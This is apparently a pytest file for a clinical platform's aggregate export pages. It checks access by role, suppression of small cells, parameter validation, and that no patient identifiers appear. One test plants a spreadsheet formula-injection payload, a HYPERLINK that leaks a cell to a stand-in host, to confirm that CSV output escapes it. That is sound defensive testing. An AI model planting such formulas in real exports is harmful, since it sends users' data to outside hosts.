"""The service-developer export pages: who may open them, what they show, and that nothing on
them (HTML or CSV) identifies a patient."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from fit_platform.db import Database
from fit_platform.db.models import (
    Episode,
    Patient,
    PatientGoal,
    Programme,
    Response,
    ResponseComment,
    ServiceFeedback,
    SessionTopic,
    SharedDecision,
    Signal,
    Unit,
)
from fit_platform.domain.codes import CommentSource, Role
from tests.support.export_data import make_known_dataset
from tests.support.factories import PASSWORD, make_staff, make_unit
from tests.support.html import log_in

JUNE = "period=quarter&start=2026-06-01&end=2026-06-30"


def _db(client: FlaskClient) -> Database:
    return client.application.extensions["fit_db"]  # type: ignore[no-any-return]


def _service_developer(client: FlaskClient) -> None:
    staff = make_staff(_db(client), (Role.SERVICE_DEVELOPER, None))
    log_in(client, staff.username, PASSWORD)


def test_service_developers_see_the_figures_with_small_cells_hidden(client: FlaskClient) -> None:
    data = make_known_dataset(_db(client))
    _service_developer(client)
    response = client.get(f"/export/?lang=en&{JUNE}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "<caption>" in html
    assert "fewer than 5" in html
    assert data.unit.name in html
    assert "Programme p" in html
    assert "2026-Q2" in html
    assert 'href="/export/"' in html  # in the staff navigation
    assert "71 %" in html  # recovery rate 5/7 on PHQ-9


def test_the_page_ends_with_a_total_per_unit_and_for_all_units(client: FlaskClient) -> None:
    make_known_dataset(_db(client))
    _service_developer(client)
    html = client.get(f"/export/?lang=en&{JUNE}").get_data(as_text=True)
    first_table = html.split("</table>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", first_table, flags=re.S)
    last = re.sub(r"<[^>]+>", " ", rows[-1])
    # All units: 20 patients invited, 40 invitations sent, 20 answered, half of them.
    assert re.sub(r"\s+", " ", last).split()[:9] == [
        "All", "units", "All", "programmes", "2026-Q2", "20", "40", "20", "50",
    ]  # fmt: skip
    assert "All programmes" in first_table


def test_the_page_shows_why_invitations_went_unanswered_signals_and_paired_recovery(
    client: FlaskClient,
) -> None:
    make_known_dataset(_db(client))
    _service_developer(client)
    html = client.get(f"/export/?lang=en&{JUNE}").get_data(as_text=True)
    for heading in (
        "Why invitations went unanswered",
        "Signals and time to act",
        "Recovery on PHQ-9 and GAD-7 together (NHS Talking Therapies)",
        "Reliable recovery rate",
        "Mean first score",
    ):
        assert f"{heading}</" in html
    assert "Opened, not finished" in html


def test_the_csv_download_has_the_figures(client: FlaskClient) -> None:
    make_known_dataset(_db(client))
    _service_developer(client)
    response = client.get(f"/export/aggregates.csv?{JUNE}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbfunit_code;unit_name;programme_code;programme_name;period;")
    assert ";p;Programme p;2026-Q2;8;16;8;0,5;" in body.decode("utf-8")
    comma = client.get(f"/export/aggregates.csv?{JUNE}&separator=comma").get_data(as_text=True)
    assert comma.startswith("unit_code,unit_name,programme_code,programme_name,period,")
    assert ",p,Programme p,2026-Q2,8,16,8,0.5," in comma


def test_a_unit_or_programme_named_like_a_formula_is_written_as_text_in_the_csv(
    client: FlaskClient,
) -> None:
    """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection): the
    names are written with a leading apostrophe, in both separators; numbers stay numbers."""
    data = make_known_dataset(_db(client))
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'
    with _db(client).transaction() as session:
        session.get_one(Unit, data.unit.id).name = formula
        programme = session.scalars(select(Programme).where(Programme.code == "p")).one()
        programme.name = "@SUM(1+1)"
    _service_developer(client)
    for separator, delimiter in (("semicolon", ";"), ("comma", ",")):
        body = client.get(f"/export/aggregates.csv?{JUNE}&separator={separator}")
        rows = list(csv.reader(io.StringIO(body.get_data(as_text=True)), delimiter=delimiter))
        cells = {cell for row in rows[1:] for cell in row}
        assert "'" + formula in cells
        assert "'@SUM(1+1)" in cells
        assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
        programme_p = next(row for row in rows if row[3] == "'@SUM(1+1)")
        assert programme_p[5] == "8"  # patients invited: a number, written as it was


def test_the_json_download_has_the_figures_and_the_codebook_version(client: FlaskClient) -> None:
    from fit_platform.services.export_files import CODEBOOK_VERSION

    make_known_dataset(_db(client))
    _service_developer(client)
    html = client.get(f"/export/?lang=en&{JUNE}").get_data(as_text=True)
    assert "/export/aggregates.json?" in html
    response = client.get(f"/export/aggregates.json?{JUNE}")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert "attachment" in response.headers["Content-Disposition"]
    document = response.get_json()
    assert document["codebook_version"] == CODEBOOK_VERSION
    assert document["choice"]["period"] == "quarter"
    p = next(row for row in document["rows"] if row["programme_code"] == "p")
    assert p["patients_invited"] == 8 and p["response_rate"] == 0.5


def test_an_unknown_separator_shows_the_form_with_a_message(client: FlaskClient) -> None:
    _service_developer(client)
    response = client.get(f"/export/aggregates.csv?lang=en&{JUNE}&separator=tab")
    assert response.status_code == 400
    assert "Choose semicolon or comma." in response.get_data(as_text=True)


def test_administrators_may_open_the_export(client: FlaskClient) -> None:
    admin = make_staff(_db(client), (Role.ADMIN, None))
    log_in(client, admin.username, PASSWORD)
    assert client.get("/export/?lang=en").status_code == 200


@pytest.mark.parametrize("role", [Role.THERAPIST, Role.UNIT_LEAD])
def test_clinical_staff_get_403(client: FlaskClient, role: Role) -> None:
    db = _db(client)
    staff = make_staff(db, (role, make_unit(db).id))
    log_in(client, staff.username, PASSWORD)
    for url in ("/export/", f"/export/aggregates.csv?{JUNE}", f"/export/aggregates.json?{JUNE}"):
        response = client.get(url)
        assert response.status_code == 403
        assert 'href="/export/"' not in response.get_data(as_text=True)


def test_anonymous_visitors_are_sent_to_the_login(client: FlaskClient) -> None:
    assert client.get("/export/").status_code == 302


@pytest.mark.parametrize(
    "query",
    [
        "period=year&start=2026-01-01&end=2026-06-30",
        "period=month&start=2026-13-01&end=2026-06-30",
        "period=month&start=&end=2026-06-30",
        "period=month&start=2026-06-30&end=2026-01-01",
        "period=month&start=2000-01-01&end=2026-01-01",
        "period=month&start=2026-01-01&end=2026-06-30&unit=abc",
        "period=month&start=2026-01-01&end=2026-06-30&unit=999999",
        "period=month&start=%00&end=\u00e6\u00f8\u00e5&unit=%ff",
    ],
)
def test_malformed_parameters_show_the_form_with_errors(client: FlaskClient, query: str) -> None:
    _service_developer(client)
    for url in ("/export/", "/export/aggregates.csv", "/export/aggregates.json"):
        response = client.get(f"{url}?lang=nn&{query}")
        assert response.status_code == 400
        html = response.get_data(as_text=True)
        assert 'role="alert"' in html
        assert 'aria-invalid="true"' in html


DISTINCTIVE = {
    "name": "Zebulon Quixotefield",
    "external": "EPR-XQZ-991",
    "goal": "Goal-text-kumquat-walrus",
    "topic": "Topic-text-marmalade-otter",
    "comment": "Comment-text-bassoon-lemur",
    "feedback": "Feedback-text-trombone-yak",
    "decision": "Decision-text-clarinet-ibis",
    "note": "Note-text-oboe-heron",
    "email": "zebulon@example.org",
}


def test_nothing_on_the_pages_or_in_the_csv_identifies_a_patient(client: FlaskClient) -> None:
    db = _db(client)
    data = make_known_dataset(db)
    therapist = make_staff(db, (Role.THERAPIST, data.unit.id))
    with db.transaction() as session:
        for index, world in enumerate(data.worlds):
            patient = session.get(Patient, world.patient_id)
            assert patient is not None
            patient.display_name = f"{DISTINCTIVE['name']} {index}"
            patient.external_id = f"{DISTINCTIVE['external']}-{index}"
            patient.email = f"{index}{DISTINCTIVE['email']}"
            session.add(PatientGoal(episode_id=world.episode_id, text=DISTINCTIVE["goal"]))
            session.add(SessionTopic(episode_id=world.episode_id, text=DISTINCTIVE["topic"]))
            session.add(
                SharedDecision(
                    episode_id=world.episode_id,
                    options_discussed=DISTINCTIVE["decision"],
                    decision=DISTINCTIVE["decision"],
                    recorded_by_id=therapist.id,
                )
            )
        for response in session.query(Response).all():
            session.add(
                ResponseComment(
                    response_id=response.id,
                    episode_id=response.episode_id,
                    source=CommentSource.FINISH,
                    text=DISTINCTIVE["comment"],
                )
            )
        for signal in session.query(Signal).all():
            signal.acknowledge_note = DISTINCTIVE["note"]
        session.add(
            ServiceFeedback(
                unit_id=data.unit.id,
                instrument_id="phq9",
                text=DISTINCTIVE["feedback"],
                period="2026-06",
            )
        )
        patient_ids = [str(world.patient_id) for world in data.worlds]
        episodes = session.query(Episode).count()
    _service_developer(client)
    pages = [
        client.get(f"/export/?lang=en&{JUNE}").get_data(as_text=True),
        client.get("/export/?lang=nb&period=quarter&start=2026-01-01&end=2026-12-31").get_data(
            as_text=True
        ),
        client.get(f"/export/aggregates.csv?{JUNE}").get_data(as_text=True),
        client.get(
            "/export/aggregates.csv?period=quarter&start=2026-01-01&end=2026-12-31"
        ).get_data(as_text=True),
        client.get(f"/export/aggregates.json?{JUNE}").get_data(as_text=True),
    ]
    assert episodes > 0
    for page in pages:
        for text in DISTINCTIVE.values():
            assert text not in page
        assert "EPR-" not in page  # the factories' external ids
        assert not re.search(r"Patient \d", page)  # the factories' display names
        # No date finer than the period: nothing like 2026-06-10 or a time of day.
        # (the filter's own dates are echoed in the form; the data's dates never are).
        for day in ("2026-06-02", "2026-06-08", "2026-06-10", "2026-06-11", "08:00"):
            assert day not in page
        assert not re.search(r"\d\.0?6\.2026|June 2026|juni 2026", page)
    header = pages[2].splitlines()[0].split(",")
    assert not [column for column in header if "patient_id" in column or "external" in column]
    assert patient_ids
